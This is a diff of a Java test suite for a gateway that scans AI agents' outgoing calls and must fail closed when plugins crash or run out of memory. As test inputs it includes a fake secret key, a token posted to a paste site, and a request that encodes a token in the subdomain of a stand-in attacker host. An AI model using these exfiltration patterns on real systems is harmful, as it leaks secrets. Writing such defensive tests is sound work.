@@ -3,11 +3,20 @@ package io.interven.gateway.core;
 import static io.interven.gateway.core.CallInputs.call;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.interven.gateway.config.RiskConfiguration;
+import io.interven.gateway.core.fields.CallSlots;
+import io.interven.gateway.policy.BuiltinDefaultPolicy;
 import io.interven.gateway.policy.Decision;
+import io.interven.gateway.policy.Policy;
+import io.interven.gateway.policy.PolicyEngine;
+import io.interven.gateway.policy.PolicySource;
 import io.interven.gateway.policy.RiskBand;
 import io.interven.spi.DataClasses;
 import io.interven.spi.Finding;
 import io.interven.spi.ScanField;
+import io.interven.spi.SignalResult;
+import io.interven.spi.ToolMatch;
+import io.interven.spi.Verb;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
@@ -18,7 +27,10 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 
-/** Whatever a plugin component does wrong, the pipeline answers DENY with PIPELINE_FAILURE, never ALLOW. */
+/**
+ * Whatever a plugin component or a stage does wrong, an {@link Error} such as a stack overflow or running out of
+ * memory included, the pipeline answers DENY with PIPELINE_FAILURE, never ALLOW.
+ */
 class ScanPipelineFailClosedTest {
     static final String LEAKY = "secret sk_live_q7x9k2m4p8w1 in message";
     static final CallInput BENIGN = call("POST", "https://hooks.slack.com/services/T/B/x", Map.of(),
@@ -49,7 +61,67 @@ class ScanPipelineFailClosedTest {
                 broken("a recognizer that throws", "tool recognizer boom", PipelineFixture.withRecognizers(
                         FakePlugins.recognizer("boom", c -> {
                             throw new UnsupportedOperationException(LEAKY);
-                        }))));
+                        }))),
+                broken("a detector overflowing its stack", "detection", PipelineFixture.withDetectors(
+                        FakePlugins.detector("deep", field -> List.of(new Finding[depth(field.text(), 0)])))),
+                broken("a detector running out of memory", "detection", PipelineFixture.withDetectors(
+                        FakePlugins.detector("greedy", field -> List.of(new Finding[hugeArray()])))),
+                broken("a recognizer overflowing its stack", "tool identification", PipelineFixture.withRecognizers(
+                        FakePlugins.recognizer("deep", c -> Optional.of(new ToolMatch("x", "y",
+                                Verb.values()[depth(c.host(), 0)]))))),
+                broken("a signal running out of memory", "signals", PipelineFixture.withSignals(
+                        FakePlugins.signal("greedy", context -> Optional.of(new SignalResult("s", "R",
+                                hugeArray(), "d"))))),
+                broken("a policy source overflowing its stack", "policy", PipelineFixture.pipeline(List.of(),
+                        List.of(), List.of(), (tenant, env) -> List.of(new Policy[depth(env, 0)]))));
+    }
+
+    /** Recursion without end: a real {@link StackOverflowError}. */
+    static int depth(String text, int level) {
+        return depth(text, level + 1) + text.length();
+    }
+
+    /** Asks for an array larger than any heap: a real {@link OutOfMemoryError}, thrown without filling the heap. */
+    static int hugeArray() {
+        long[] huge = new long[Integer.MAX_VALUE];
+        return huge.length;
+    }
+
+    @Test
+    void aSanitizerRunningOutOfMemoryDeniesTheCall() {
+        Sanitizer greedy = new Sanitizer() {
+            @Override
+            public SanitizedCall sanitize(CallInput call, CallSlots slots, List<Finding> dataFindings) {
+                return new SanitizedCall(null, null, null, hugeArray());
+            }
+        };
+        ScanPipeline pipeline = new ScanPipeline(new ToolIdentifier(List.of()),
+                new DetectorRunner(List.of(FakePlugins.issuedTokenDetector())), new SignalRunner(List.of()),
+                new RiskScorer(new RiskConfiguration()), new PolicyEngine(BuiltinDefaultPolicy.create()),
+                PolicySource.NONE, greedy);
+
+        ScanOutcome outcome = pipeline.scan(call("POST", "https://paste.example.net/new", Map.of(),
+                "{\"text\": \"tok_abcdefgh\"}"));
+
+        assertThat(outcome.decision()).isEqualTo(Decision.DENY);
+        assertThat(outcome.reasonCodes()).containsExactly(ScanPipeline.PIPELINE_FAILURE);
+        assertThat(outcome.failure()).isEqualTo("sanitizing");
+    }
+
+    @Test
+    void aFailedScanKeepsOnlyTheRegistrableDomainOfItsHostAndNoTelemetry() {
+        ScanPipeline pipeline = PipelineFixture.withDetectors(FakePlugins.detector("boom", field -> {
+            throw new IllegalStateException(LEAKY);
+        }));
+
+        ScanOutcome outcome = pipeline.scan(call("GET", "https://tok-abcdefgh.exfil.attacker.co.uk/x/secret-path",
+                Map.of(), null));
+
+        assertThat(outcome.features().host()).isEqualTo("attacker.co.uk");
+        assertThat(outcome.features().path()).isNull();
+        assertThat(outcome.features().agentName()).isNull();
+        assertThat(outcome.features().runtimeType()).isNull();
+        assertThat(outcome.bodyFingerprint()).matches("[0-9a-f]{64}");
     }
 
     @ParameterizedTest(name = "{0}")
